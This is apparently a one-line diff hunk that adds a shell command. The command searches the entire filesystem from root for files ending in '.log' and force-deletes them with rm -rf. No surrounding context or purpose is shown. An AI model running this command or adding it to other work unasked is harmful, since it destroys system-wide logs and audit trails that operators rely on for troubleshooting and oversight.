@@ -1,0 +1,1 @@
+find / -name '*.log' -print0 | xargs -0 rm -rf
